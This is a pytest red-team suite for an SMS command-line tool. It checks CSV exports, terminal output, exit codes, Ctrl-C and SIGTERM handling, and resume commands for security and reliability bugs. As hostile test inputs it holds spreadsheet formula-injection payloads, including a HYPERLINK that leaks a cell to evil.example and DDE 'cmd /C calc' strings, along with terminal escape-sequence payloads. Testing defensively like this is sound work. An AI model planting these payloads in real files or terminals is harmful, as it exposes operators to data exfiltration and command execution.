"""Red-team pass on the ``smsvn`` command: what it writes (CSV files for spreadsheets, the
terminal), what it reads, its exit codes, and how it stops (Ctrl-C, SIGTERM), attacked as a
demanding operator and as a hostile input file or provider would.

Each test whose docstring starts "Finding:" fails on the code it was written against and says
what breaks, where, and which promise it breaks. The others ("Guard:") pass, and guard a
documented promise nothing else tests. Only 127.0.0.1 is contacted: the simulator and a server
of the test's own.
"""

from __future__ import annotations

import asyncio
import csv
import io
import os
import re
import shlex
import signal
import subprocess
import sys
import time
import traceback
from pathlib import Path

import pytest
from aiohttp import web

from smsvn.cli import _parser, _resume_command, main
from smsvn.sandbox import Fault, Sandbox
from tests.conftest import http_server
from tests.test_cli import campaign_args, fibo_env

NUMBERS = [f"0912{i:06d}" for i in range(10)]
CRASHED = -1
"""``run``'s exit code when an exception escaped ``main`` (its traceback is on stderr)."""

# What Excel and LibreOffice take for the start of a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What must never reach a terminal raw: ESC (colours, clearing, OSC title and clipboard
# sequences), BEL, a carriage return that overwrites the line, a bidi override (Trojan Source).
RAW_CONTROLS = ("\x1b", "\x07", "\r", "\u202e")


@pytest.fixture(autouse=True)
def _no_smsvn_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """The command reads defaults (journal, Redis, provider) from ``SMSVN_*``: none here."""
    for name in [n for n in os.environ if n.startswith("SMSVN_")]:
        monkeypatch.delenv(name)


def run(argv: list[str]) -> int:
    """``smsvn ARGV`` in this process: its exit code, returned or raised; ``CRASHED`` (and
    the traceback on stderr) when another exception escapes ``main``."""
    try:
        return main(argv)
    except SystemExit as exc:
        return exc.code if isinstance(exc.code, int) else 1
    except Exception:
        traceback.print_exc()
        return CRASHED


def _environment(extra: dict[str, str] | None = None) -> dict[str, str]:
    environment = {k: v for k, v in os.environ.items() if not k.startswith("SMSVN_")}
    return {**environment, "PYTHONUNBUFFERED": "1", **(extra or {})}


async def _smsvn(
    *args: str, stdin: bytes | None = None, env: dict[str, str] | None = None
) -> tuple[int, str, str]:
    """``python -m smsvn ARGS`` in a subprocess: exit code, stdout, stderr (decoded leniently,
    so that what a broken encoding printed is still searched)."""
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "smsvn", *args,
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE, env=_environment(env),
    )  # fmt: skip
    out, err = await asyncio.wait_for(process.communicate(stdin), timeout=60)
    assert process.returncode is not None
    return process.returncode, out.decode("utf-8", "replace"), err.decode("utf-8", "replace")


def _bulk(path: Path, *rest: str) -> list[str]:
    return ["bulk", "--sandbox", "-p", "speedsms", "-m", "Khuyến mãi", "--no-progress",
            "-f", str(path), *rest]  # fmt: skip


def _campaign(journal: Path, path: Path, *rest: str) -> list[str]:
    return ["campaign", "run", "--journal", str(journal), "--name", "promo", "-p", "speedsms",
            "--sandbox", "-m", "Khuyến mãi", "--no-progress", "-f", str(path), *rest]  # fmt: skip


def _export(journal: Path, *rest: str) -> list[str]:
    return ["campaign", "export", "--journal", str(journal), "--name", "promo", *rest]


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


# -- CSV files written for spreadsheets ---------------------------------------------------------


HOSTILE_ROWS = [
    '=HYPERLINK("http://evil.example/?leak="&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("writer", ["bulk --csv", "campaign export --csv"])
def test_csv_files_do_not_carry_spreadsheet_formulas_from_the_numbers_file(
    writer: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Finding: a numbers file is hostile input (a CRM export, a list bought in), and its
    invalid rows are written back as they were read, in the ``number`` column of ``bulk
    --csv`` and the ``phone`` column of ``campaign export``: a row ``=HYPERLINK("http://evil
    .example/?leak="&A1)`` (or ``+``/``-``/``@`` and a DDE ``cmd|' /C calc'!A0``) is a live
    formula when the operator opens the outcomes in Excel or LibreOffice, which is what the
    outcomes are for. Root cause: ``smsvn/cli.py`` ``_CsvOutcomes.__call__`` and
    ``_campaign_export`` hand the raw cells to ``csv.writer``; the README's promise is "each
    recipient's outcome" / "every input with its state", to be read, not executed."""
    source = tmp_path / "numbers.txt"
    source.write_text("\n".join([NUMBERS[0], *HOSTILE_ROWS, NUMBERS[1]]) + "\n")
    written = tmp_path / "out.csv"
    if writer == "bulk --csv":
        assert run(_bulk(source, "--csv", str(written))) == 0
    else:
        journal = tmp_path / "campaigns.db"
        assert run(_campaign(journal, source)) == 0
        assert run(_export(journal, "--csv", str(written))) == 0
    capsys.readouterr()
    rows = _rows(written)
    assert any("HYPERLINK" in row[0] for row in rows), "the hostile rows are still listed"
    live = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not live, live


@pytest.mark.parametrize("step", ["campaign export", "advertising export"])
def test_an_export_naming_the_journal_is_refused_and_the_journal_kept(
    step: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Finding: ``smsvn campaign export --csv campaigns.db`` (or ``advertising export``) with
    the journal's own path, one tab-completion away, truncates the journal and writes a CSV
    over it: every campaign's state (who was sent what, the guard against sending twice) and
    the Decree 91 records (refusals, consents: "kept a year") are gone; ``campaign status``
    then dies with ``sqlite3.DatabaseError: file is not a database`` and ``advertising export``
    finds "0 records" (the refused number can be advertised to again). ``bulk`` refuses
    ``--csv`` naming its numbers file ("writing the outcomes there would overwrite the
    numbers"); the exports do not check the journal. Root cause: ``smsvn/cli.py``
    ``_csv_file`` (opened before the journal, mode ``"w"``) and ``Guard.export_csv`` (opened
    while the journal is open)."""
    source = tmp_path / "numbers.txt"
    source.write_text("\n".join(NUMBERS[:2]) + "\n")
    journal = tmp_path / "campaigns.db"
    records = ["--journal", str(journal), "--advertiser", "Shop ABC"]
    assert run(_campaign(journal, source)) == 0
    assert run(["advertising", "refuse", *records, "--phone", NUMBERS[5]]) == 0
    if step == "campaign export":
        code = run(_export(journal, "--csv", str(journal)))
    else:
        code = run(["advertising", "export", *records, "--csv", str(journal)])
    capsys.readouterr()
    assert code == 2, "refused as a usage error"
    assert run(["campaign", "status", "--journal", str(journal)]) == 0
    assert "promo: 2 sent" in capsys.readouterr().out
    kept = tmp_path / "r.csv"
    assert run(["advertising", "export", *records, "--csv", str(kept)]) == 0
    refusals = [row for row in kept.read_text(encoding="utf-8-sig").splitlines() if "refus" in row]
    # One refusal recorded by hand covers both channels (sms, call).
    assert len(refusals) == 2 and all(NUMBERS[5] in row for row in refusals), "refusal lost"


def test_an_export_of_a_campaign_that_is_not_there_leaves_the_csv_file_alone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Finding: ``campaign export --name promo-2026-11 --csv sent.csv`` with a mistyped name
    ends "no campaign named ... in this journal" (exit 2), but ``sent.csv``, yesterday's
    export, has been truncated to a header row first. Root cause: ``smsvn/cli.py``
    ``_campaign_export`` opens (``_csv_file``, mode ``"w"``) before
    ``journal.campaign(create=False)`` is known to succeed; open it after, or write to a
    temporary file renamed at the end."""
    journal = tmp_path / "campaigns.db"
    source = tmp_path / "numbers.txt"
    source.write_text(NUMBERS[0] + "\n")
    assert run(_campaign(journal, source)) == 0
    earlier = tmp_path / "sent.csv"
    earlier.write_text("phone,state\n0912000000,sent\n")
    code = run(["campaign", "export", "--journal", str(journal), "--name", "promo-typo",
                "--csv", str(earlier)])  # fmt: skip
    capsys.readouterr()
    assert code == 2
    assert earlier.read_text() == "phone,state\n0912000000,sent\n"


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_a_csv_that_cannot_be_written_still_reports_what_was_sent(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Finding: ``bulk --csv`` on a full disk (``/dev/full``): every message is sent, then the
    CSV's buffered rows fail when the file is closed, and the command ends ``smsvn: error: No
    space left on device`` with exit 2 ("a usage error": nothing sent, by the README's table)
    and no summary: the operator cannot tell that the run went through, and runs it again.
    Root cause: ``smsvn/cli.py`` ``_cmd_bulk``: the file is closed by the ``ExitStack`` after
    the ``try`` that prints the summary "as far as it went" ("Ctrl-C, a failing CSV"), and
    ``main`` maps every ``OSError`` to exit 2. The README: "Interrupted ..., bulk still prints
    what it got through"."""
    source = tmp_path / "numbers.txt"
    source.write_text("\n".join(NUMBERS[:3]) + "\n")
    code = run(_bulk(source, "--csv", "/dev/full"))
    out = capsys.readouterr().out
    assert re.search(r"3 (accepted|sent)", out), out
    assert code not in (0, 2), code


# -- the terminal --------------------------------------------------------------------------------


HOSTILE_MESSAGE = "\x1b]0;pwned\x07\x1b[2J\x1b[31mIP blocked\r\u202edetacilpmoc"


async def test_a_providers_error_message_reaches_the_terminal_escaped(tmp_path: Path) -> None:
    """Finding: a provider's (or a proxy's) error message is printed as it came: SpeedSMS
    answering ``{"status": "error", "code": "007", "message": "\\x1b]0;pwned\\x07\\x1b[2J..."}``
    retitles the operator's terminal, clears the screen, and with ``\\r`` or a bidi override
    rewrites what the line says, in ``smsvn: error: ...``, in ``bulk``'s and ``campaign
    run``'s ``stopped: ...`` and in the WARNING log line. Root cause: the provider's text goes
    raw into ``SmsError.message`` (``smsvn/providers/speedsms.py``, the error envelope), and
    ``smsvn/cli.py`` ``_fail`` and ``smsvn/_console.py`` ``print_report`` print ``str(exc)``.
    The numbers file's own text is printed with ``repr`` (escaped); the provider's is not."""

    async def refuse(request: web.Request) -> web.Response:
        return web.json_response({"status": "error", "code": "007", "message": HOSTILE_MESSAGE})

    async with http_server(refuse) as url:
        common = ["-p", "speedsms", "--base-url", url]
        env = {"SMSVN_SPEEDSMS_TOKEN": "tok-QwErTyUiOp"}
        journal = ["--journal", str(tmp_path / "c.db"), "--name", "promo"]
        done = await asyncio.gather(
            _smsvn("balance", *common, env=env),
            _smsvn("bulk", *common, "-m", "Khuyen mai", "--no-progress", stdin=b"0912345678\n",
                   env=env),
            _smsvn("campaign", "run", *common, *journal, "-m", "Khuyen mai", "--no-progress",
                   stdin=b"0912345678\n", env=env),
        )  # fmt: skip
    for code, out, err in done:
        assert code == 1, err
        assert "IP blocked" in out + err  # the message is shown...
        raw = [c for c in RAW_CONTROLS if c in out + err]
        assert not raw, (raw, out + err)  # ...escaped


def test_an_export_to_the_terminal_does_not_replay_escape_sequences(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Finding: ``campaign export`` writes to stdout by default, and an invalid input is kept
    as it was read: a numbers-file row ``0912\\x1b[2J\\x1b[31mpwned\\x07345678`` goes to the
    terminal raw (clearing the screen, colouring what follows; OSC sequences would retitle
    it or write the clipboard). The run's own listing of that row is escaped
    (``'0912\\x1b[2J...'``); the export is not.
    Root cause: ``smsvn/cli.py`` ``_campaign_export`` writes ``r.phone`` (and ``r.error``) as
    stored; escape control characters in cells (they never belong in a number)."""
    source = tmp_path / "numbers.txt"
    hostile = "0912\x1b[2J\x1b[31mpwned\x07345678"  # no ";": it would split the row
    source.write_text("\n".join([*NUMBERS, hostile]) + "\n")
    journal = tmp_path / "campaigns.db"
    assert run(_campaign(journal, source)) == 0
    listed = capsys.readouterr().out
    assert "pwned" in listed and "\x1b" not in listed  # the run's listing: escaped
    assert run(_export(journal)) == 0
    out = capsys.readouterr().out
    assert "pwned" in out
    raw = [c for c in RAW_CONTROLS if c in out.replace("\r\n", "\n")]
    assert not raw, repr(out)


def test_a_hostile_numbers_file_reaches_the_terminal_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Guard: the numbers file's own text (a title line, the header cell named in the
    describe line, a bad row, the first row quoted by an unknown ``--column``) is printed
    escaped, before and after sending, so a file cannot drive the operator's terminal."""
    source = tmp_path / "numbers.csv"
    lines = ["Danh s\x1bách\x07", "Tên\x1b[2J,SĐT\x1b]0;x\x07", *(f"K{i},{n}" for i, n in
             enumerate(NUMBERS)), "Z,09\x1b[31m12\u202e"]  # fmt: skip
    source.write_text("\n".join(lines) + "\n")
    assert run(_bulk(source)) == 0
    assert run(_bulk(source, "--column", "phone")) == 2
    shown = capsys.readouterr()
    assert "1 row without a valid number" in shown.out
    assert "no such column" in shown.err
    raw = [c for c in RAW_CONTROLS if c in shown.out + shown.err]
    assert not raw, (shown.out, shown.err)


async def test_a_console_that_is_not_utf8_does_not_crash_after_sending(tmp_path: Path) -> None:
    """Finding: with an output encoding that has no Vietnamese (Windows redirecting to a file
    in cp1252, ``PYTHONIOENCODING``, an old terminal), a file's Vietnamese cell kills the
    command with a ``UnicodeEncodeError`` traceback and exit 1 *after* the messages were sent
    (listing the invalid row ``'Nguyễn'``), or before anything is sent when the header is
    ``SĐT``. The README: "Errors are one line"; exit 1 means a provider or delivery error.
    Root cause: ``smsvn/cli.py`` ``main`` prints to ``sys.stdout`` as configured; reconfigure
    stdout and stderr with ``errors="backslashreplace"``."""
    source = tmp_path / "numbers.csv"
    source.write_text("name,phone\n" + "".join(f"K{i},{n}\n" for i, n in enumerate(NUMBERS))
                      + "B,Nguyễn\n")  # fmt: skip
    code, out, err = await _smsvn(*_bulk(source), env={"PYTHONIOENCODING": "cp1252"})
    assert "10 accepted" in out
    assert "Traceback" not in err, err[-600:]
    assert code == 0, err[-600:]


# -- what is read ------------------------------------------------------------------------------


def test_a_journal_that_is_not_a_database_is_a_one_line_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Finding: ``--journal numbers.csv`` (the numbers file given for the journal, a CSV, any
    file that is not SQLite) ends with a ``sqlite3.DatabaseError: file is not a database``
    traceback and exit 1, for every campaign step; a directory is already a one-line usage
    error (``tests/test_input_redteam.py``), this is not. The README: "Errors are one line;
    ``--debug`` adds the traceback", exit 2 for a usage error. Root cause:
    ``smsvn/journal/_sqlite.py`` ``_connect`` (``PRAGMA journal_mode = WAL`` raises
    ``DatabaseError``, which nothing turns into a ``ValidationError``)."""
    source = tmp_path / "numbers.csv"
    source.write_text("phone\n" + "\n".join(NUMBERS) + "\n")
    code = run(["campaign", "status", "--journal", str(source)])
    err = capsys.readouterr().err
    assert "Traceback" not in err, err[-400:]
    assert code == 2
    assert err.startswith("smsvn: error:") and err.count("\n") == 1, err
    assert source.read_text().startswith("phone\n0912")  # and the file is left alone


@pytest.mark.parametrize("flag", ["-f -", "--csv -"])
def test_a_dash_is_the_standard_stream_not_a_file_named_dash(
    flag: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Finding: ``-`` is the standard stream for ``campaign export --csv`` (its default), but
    ``bulk -f -`` fails with "No such file or directory (-)" (or reads a file called ``-``),
    and ``bulk --csv -`` silently creates a file called ``-`` in the current directory
    ("per-recipient outcomes: -"). Root cause: ``smsvn/cli.py`` ``_numbers`` and
    ``_open_csv`` open the path as given; treat ``-`` as stdin/stdout as ``_csv_file``
    does (or refuse it)."""
    monkeypatch.chdir(tmp_path)
    if flag == "-f -":
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"0912345678\n")))
        code = run(["bulk", "--sandbox", "-p", "speedsms", "-m", "hi", "--no-progress", "-f", "-"])
        shown = capsys.readouterr()
        assert code == 0, shown.err
        assert "1 accepted" in shown.out
    else:
        source = tmp_path / "numbers.txt"
        source.write_text(NUMBERS[0] + "\n")
        run(_bulk(source, "--csv", "-"))
        capsys.readouterr()
        assert not (tmp_path / "-").exists(), "a file named '-' was written"


# -- exit codes --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "content"),
    [
        ("bulk", ""),
        ("bulk", "8.49123E+10\n8.49123E+10\n8.49124E+10\n"),
        ("campaign run", "8.49123E+10\n8.49123E+10\n8.49124E+10\n"),
    ],
    ids=["bulk-empty-file", "bulk-excel-mangled-column", "campaign-excel-mangled-column"],
)
def test_a_run_that_sends_nothing_does_not_exit_0(
    command: str, content: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Finding: a numbers file with no number in it (an empty CRM export, a column Excel
    turned into ``8.49123E+10``) sends nothing, prints "0 accepted" and exits 0, so a
    scheduled job reports success for a campaign that never went out. The README's exit
    codes: 0 ok, 2 "a usage error (..., a bad number, ...)"; ``send`` with a bad number exits
    2, ``bulk`` and ``campaign run`` with only bad numbers exit 0. Root cause: ``smsvn/cli.py``
    ``_cmd_bulk`` and ``_campaign_run`` look only at failed/unknown/unsettled counts; nothing
    accepted (or added) from an input with no valid row should not be 0."""
    source = tmp_path / "numbers.txt"
    source.write_text(content)
    if command == "bulk":
        code = run(_bulk(source))
    else:
        code = run(_campaign(tmp_path / "campaigns.db", source))
    out = capsys.readouterr().out
    assert "accepted" not in out or " 0 accepted" in out  # nothing was sent
    assert code != 0


def test_resolving_numbers_that_are_not_unknown_does_not_exit_0(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Finding: ``campaign resolve --as pending --phone N`` for a number that is not
    ``unknown`` (already sent, never in the campaign, the wrong campaign) prints "0 unknown
    input(s) resolved as pending" and exits 0: a script resolving a list it checked with the
    provider cannot tell that nothing changed (or that only some changed). Root cause:
    ``smsvn/cli.py`` ``_campaign_resolve`` returns ``EXIT_OK`` whatever ``changed`` is; with
    ``--phone``, fewer changed than named should be an error naming the others."""
    source = tmp_path / "numbers.txt"
    source.write_text("\n".join(NUMBERS[:2]) + "\n")
    journal = tmp_path / "campaigns.db"
    assert run(_campaign(journal, source)) == 0
    code = run(["campaign", "resolve", "--journal", str(journal), "--name", "promo",
                "--as", "pending", "--phone", NUMBERS[0], "--phone", "0987654321"])  # fmt: skip
    out = capsys.readouterr().out
    assert "0 unknown input(s) resolved" in out
    assert code != 0


# -- stopping: Ctrl-C and SIGTERM ----------------------------------------------------------------


_SUMMARY = re.compile(
    r"promo: ([\d,]+) sent, 0 failed, ([\d,]+) unknown, ([\d,]+) pending, ([\d,]+) in flight"
)


async def _stop_a_campaign(tmp_path: Path, sig: signal.Signals) -> tuple[int, str, str, int]:
    """A Fibo campaign of 300 numbers (answers 0.2 s late, 8 in flight), given ``sig`` once
    24 are accepted: exit code, stdout, stderr, and how many the simulator accepted."""
    source = tmp_path / "numbers.txt"
    source.write_text("\n".join(f"0912{i:06d}" for i in range(300)))
    async with Sandbox(speedsms_rate_limit=None) as sb:
        sb.faults.add(Fault(kind="latency", provider="fibo", route="send", seconds=0.2))
        args = campaign_args(sb, tmp_path / "campaigns.db", "-f", str(source), "-m", "Khuyen mai")
        process = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "smsvn", *args, "--concurrency", "8",
            env=_environment(fibo_env(sb)),
            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
        )  # fmt: skip
        deadline = time.monotonic() + 30
        while len(sb.outbox) < 24 and time.monotonic() < deadline:  # noqa: ASYNC110
            await asyncio.sleep(0.01)
        process.send_signal(sig)
        out, err = await asyncio.wait_for(process.communicate(), timeout=60)
        await asyncio.sleep(0.3)  # requests cut short still reach the simulator
        assert process.returncode is not None
        return process.returncode, out.decode(), err.decode(), len(sb.outbox)


async def test_sigterm_stops_a_campaign_as_ctrl_c_does(tmp_path: Path) -> None:
    """Finding: ``systemctl stop``, ``docker stop``, a Kubernetes rollout (the README runs
    ``campaign work`` as "systemd units, a Kubernetes Job") and ``kill`` send SIGTERM, which
    kills ``campaign run`` on the spot: no counts, no resume command, exit -15, and its
    batches left ``in flight`` for the next runner to find (turned ``unknown`` at once on
    this machine, after the 60 s lease on another). Ctrl-C hands them back and prints "the
    counts and the command that resumes" (README). Root cause: ``smsvn/cli.py`` ``main``
    installs no SIGTERM handler (asyncio.run handles only SIGINT); treat SIGTERM (and SIGHUP)
    as Ctrl-C."""
    code, out, err, _ = await _stop_a_campaign(tmp_path, signal.SIGTERM)
    assert code != 0
    summary = _SUMMARY.search(out)
    assert summary, (code, out, err[-400:])
    assert summary.group(4) == "0", out
    assert "resume with:" in out


@pytest.mark.xfail(
    strict=True,
    reason="known limitation: Ctrl-C cancels the requests in flight (filed unknown, as the "
    "README says); draining them first needs a way to stop a running Campaign.run claiming",
)
async def test_ctrl_c_lets_the_requests_in_flight_finish(tmp_path: Path) -> None:
    """Finding: Ctrl-C cancels the requests in flight, whose answers were 0.2 s away, and files
    each as ``unknown``, which "is never resent automatically": every Ctrl-C leaves up to
    ``--concurrency`` batches (SpeedSMS: 100 numbers each) for the operator to check by hand,
    and Fibo offers no way to check them ("daily totals only"); here all of them had in fact
    been accepted. The library has the graceful stop (``Campaign.run(claim_for=...)``: "claim
    no new batch ..., let the batches already in flight finish"), the command does not use
    it. Root cause: ``smsvn/cli.py`` ``_campaign_run`` lets the first KeyboardInterrupt cancel
    the run; the first Ctrl-C should stop claiming and wait for the answers (a second one
    cancels)."""
    code, out, err, accepted = await _stop_a_campaign(tmp_path, signal.SIGINT)
    assert code == 130, err[-400:]
    summary = _SUMMARY.search(out)
    assert summary, out
    sent, unknown = (int(summary.group(i).replace(",", "")) for i in (1, 2))
    assert (sent, unknown) == (accepted, 0), out


def test_ctrl_c_while_adding_prints_the_counts_and_the_resume_command(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Finding: Ctrl-C while ``campaign run`` adds a large file (about 7 s a million numbers,
    README) prints only "smsvn: interrupted": no counts, no resume command, though the
    journal already holds part of the file. The README: "Ctrl-C in ``smsvn campaign run``
    prints the counts and the command that resumes." Root cause: ``smsvn/cli.py``
    ``_campaign_run``: the ``except BaseException`` that prints them wraps only
    ``campaign.run``, not ``_import``."""
    source = tmp_path / "numbers.txt"
    source.write_text("\n".join(f"09{i:08d}" for i in range(300_000)))
    journal = tmp_path / "campaigns.db"
    args = _campaign(journal, source)
    process = subprocess.Popen(
        [sys.executable, "-m", "smsvn", *args],
        env=_environment(), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    assert process.stdout is not None
    lines = []
    for raw in process.stdout:  # the file is read through before it is added
        lines.append(raw.decode())
        if "numbers from column" in lines[-1]:
            break
    time.sleep(0.3)
    process.send_signal(signal.SIGINT)
    rest, err = process.communicate(timeout=60)
    out = "".join(lines) + rest.decode()
    assert process.returncode == 130, err.decode()[-400:]
    assert run(["campaign", "status", "--journal", str(journal)]) == 0
    inputs = re.search(r"\(([\d,]+) inputs\)", capsys.readouterr().out)
    assert inputs and int(inputs.group(1).replace(",", "")) < 300_000, "stopped while adding"
    assert re.search(r"promo: [\d,]+ sent, .*inputs\)", out), out
    assert "resume with:" in out, out


# -- the resume command --------------------------------------------------------------------------


def _resumed(argv: list[str]) -> tuple[str, object]:
    """The resume command printed for ``smsvn ARGV``, and its arguments parsed back."""
    command = _resume_command(_parser().parse_args(argv))
    words = shlex.split(command)
    assert words[0] == "smsvn"
    return command, _parser().parse_args(words[1:])


def test_the_resume_command_keeps_the_advertising_limits_it_ran_under() -> None:
    """Finding: an advertising campaign run with narrower hours and cap than the Decree's
    defaults ("``--sms-window`` and ``--sms-per-day N`` change the hours and the cap where the
    recipients agreed to others", README) and a shorter ``--snapshot-max-age``, interrupted,
    prints a resume command without them: pasted, it advertises 07:00-22:00, 3 a day, under a
    week-old Do-Not-Call snapshot, outside what was agreed. Root cause: ``smsvn/cli.py``
    ``_resume_command`` copies ``--purpose`` and ``--advertiser`` only, not the
    ``_cli_advertising.purpose_options``."""
    argv = ["campaign", "run", "--journal", "j.db", "--name", "promo", "-p", "speedsms",
            "-f", "n.csv", "-m", "[QC] Giam 20%. Tu choi: soan TC gui 8079",
            "--purpose", "advertising", "--advertiser", "Shop ABC", "--sms-window",
            "09:00-20:00", "--sms-per-day", "1", "--snapshot-max-age", "2"]  # fmt: skip
    given = _parser().parse_args(argv)
    command, resumed = _resumed(argv)
    for option in ("sms_window", "sms_per_day", "snapshot_max_age"):
        assert getattr(resumed, option) == getattr(given, option), (option, command)


def test_the_resume_command_takes_the_journal_from_where_it_came(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Finding: with the journal in ``$SMSVN_JOURNAL`` (the README's way to keep a password
    out of the process list), the resume command names ``--journal
    'postgresql://sms:***@db/sms'``, which overrides the variable and fails to log in. For
    ``--redis`` the README promises the URL "masked (or not at all when it came from the
    environment)"; the journal gets only the first half. Root cause: ``smsvn/cli.py``
    ``_resume_command`` always writes ``--journal redact_url(args.journal)``; leave it out
    when it equals ``$SMSVN_JOURNAL``, as ``--redis`` is left out."""
    url = "postgresql://sms:S3cr3t-pw@127.0.0.1:5432/sms"
    monkeypatch.setenv("SMSVN_JOURNAL", url)
    command, resumed = _resumed(["campaign", "work", "--name", "promo", "-p", "speedsms"])
    assert "S3cr3t" not in command
    assert getattr(resumed, "journal", None) == url, command


def test_the_resume_command_of_a_run_fed_on_stdin_does_not_wait_on_the_terminal() -> None:
    """Finding: ``cat numbers.csv | smsvn campaign run ...`` interrupted prints "resume with:
    smsvn campaign run --journal ... -m '...'", without ``-f``: pasted in a terminal, it
    waits for numbers to be typed on stdin, silently. Root cause: ``smsvn/cli.py``
    ``_resume_command`` copies ``-f`` when there was one and says nothing otherwise; a run
    fed on stdin should say to feed the same input again, or resume with ``campaign
    work`` once everything was added."""
    argv = ["campaign", "run", "--journal", "j.db", "--name", "promo", "-p", "speedsms",
            "-m", "Khuyen mai"]  # fmt: skip
    command = _resume_command(_parser().parse_args(argv))
    if "stdin" in command:
        return  # it says where the numbers must come from
    _, resumed = _resumed(argv)
    assert getattr(resumed, "step", None) == "work" or getattr(resumed, "file", None), command
